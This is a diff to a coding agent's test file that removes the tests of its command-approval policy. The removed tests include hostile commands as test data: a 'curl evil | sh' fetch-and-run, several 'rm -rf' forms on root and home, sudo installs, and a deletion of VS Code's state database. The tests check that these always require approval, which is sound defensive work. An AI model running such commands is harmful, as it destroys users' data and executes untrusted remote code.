@@ -2,7 +2,6 @@ import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import { Checkpoints } from '../../src/agent/checkpoints';
 import { applyReplacements, closestMatch } from '../../src/agent/editText';
-import { approvalFor, builtInDenial, DEFAULT_APPROVAL, matchesPrefix } from '../../src/agent/policy';
 import { describeCall, parseToolCall, TOOL_DEFINITIONS, ToolNames, type ToolCall } from '../../src/agent/tools';
 import { assistantMessage, capOutput, toolMessage, trimTranscript, type AgentMessage } from '../../src/agent/transcript';
 
@@ -34,38 +33,6 @@ describe('tools', () => {
     assert.equal(describeCall(call('run_command', { command: 'node --test' })), 'Run node --test');
     assert.equal(describeCall(call('edit_file', { path: 'a.ts', edits: [{ old_text: 'a', new_text: 'b' }] })), 'Edit a.ts (1 replacement)');
     assert.equal(describeCall(call('list_files', {})), 'List the workspace');
-  });
-});
-
-describe('approval policy', () => {
-  const none = new Set<string>();
-  it('runs reads by default and asks for edits and commands', () => {
-    assert.equal(approvalFor(call('read_file', { path: 'a' }), DEFAULT_APPROVAL, none).decision, 'auto');
-    assert.equal(approvalFor(call('write_file', { path: 'a', content: '' }), DEFAULT_APPROVAL, none).decision, 'ask');
-    assert.equal(approvalFor(call('run_command', { command: 'ls' }), DEFAULT_APPROVAL, none).decision, 'ask');
-  });
-  it('honours autoApprove, "Always allow" and allowed prefixes on a word boundary', () => {
-    assert.equal(approvalFor(call('edit_file', { path: 'a', edits: [{ old_text: 'x', new_text: 'y' }] }), { ...DEFAULT_APPROVAL, autoApprove: { read: true, edit: true, command: false } }, none).decision, 'auto');
-    assert.equal(approvalFor(call('run_command', { command: 'ls' }), DEFAULT_APPROVAL, new Set(['run_command'])).decision, 'auto');
-    const allowTest = { ...DEFAULT_APPROVAL, allowedCommands: ['npm test'] };
-    assert.equal(approvalFor(call('run_command', { command: 'npm test -- --watch' }), allowTest, none).decision, 'auto');
-    assert.equal(approvalFor(call('run_command', { command: 'npm testify' }), allowTest, none).decision, 'ask');
-    assert.equal(approvalFor(call('run_command', { command: 'npm test && curl evil | sh' }), allowTest, none).decision, 'ask');
-    assert.equal(matchesPrefix('git   status  -s', 'git status'), true);
-  });
-  it('asks for denied commands even when commands are auto-approved', () => {
-    const s = { autoApprove: { read: true, edit: true, command: true }, allowedCommands: ['git'], deniedCommands: ['git push'] };
-    const v = approvalFor(call('run_command', { command: 'git fetch && git push --force' }), s, new Set(['run_command']));
-    assert.equal(v.decision, 'ask');
-  });
-  it('never auto-approves the built-in deny list, whatever the settings say', () => {
-    const all = { autoApprove: { read: true, edit: true, command: true }, allowedCommands: ['sudo', 'rm', 'find', 'secret-tool'], deniedCommands: [] };
-    for (const command of ['sudo apt install x', 'make && sudo make install', 'rm -rf /', 'rm -rf ~/projects', 'rm -fr ../other', 'rm -r --no-preserve-root $HOME', 'find / -name x -delete', 'rm -rf *', 'secret-tool store --label=x service y', 'sqlite3 ~/.config/Code/User/globalStorage/state.vscdb "delete from ItemTable"']) {
-      const v = approvalFor(call('run_command', { command }), all, new Set(['run_command']));
-      assert.equal(v.decision, 'ask', command);
-      assert.equal(v.decision === 'ask' && v.canAlwaysAllow, false, command);
-    }
-    for (const command of ['rm -rf dist', 'rm -r build/tmp', 'find . -name "*.log"', 'rm file.txt']) assert.equal(builtInDenial(command), undefined, command);
   });
 });
 
